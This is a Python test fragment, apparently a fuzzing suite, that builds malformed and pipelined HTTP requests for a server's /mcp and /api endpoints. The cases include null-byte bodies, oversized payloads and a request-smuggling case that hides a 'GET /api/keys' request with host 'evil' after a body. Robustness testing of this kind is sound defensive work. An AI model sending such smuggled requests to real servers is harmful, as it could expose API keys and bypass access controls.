        "an empty statement": call("verify_statement", {"statement": ""}),
        "a statement of nulls": call("verify_statement", {"statement": "\x00" * 1000}),
    }
    for name, body in bodies.items():
        yield name, request("POST", "/mcp", accepted, body)


def _several() -> Iterator[tuple[str, bytes]]:
    get, post = request("GET", "/api/collections"), request("POST", "/api/search", JSON, QUERY)
    yield "200 requests at once", get * 200
    yield "a good one and a bad one", get + b"\x00\r\n\r\n"
    yield "a request within a body", request("POST", "/api/search", JSON, get)
    yield "a request after a body that is too long", post + b"GET /api/keys HTTP/1.1\r\nHost: evil\r\n\r\n"
    yield "a body after a request without one", get + b"a" * 100_000
    yield (
        "a body after one that was refused",
        request("POST", "/api/ask", JSON, b"a" * 2_000_000, key=False) + get,
    )
    yield (
        "with an upgrade between them",
        get + request("POST", "/api/search", {**JSON, **UPGRADE}, QUERY) + get,
    )
    yield (
        "the end of a connection, and more",
        request("GET", "/api/collections", {"connection": "close"}) + get,
    )
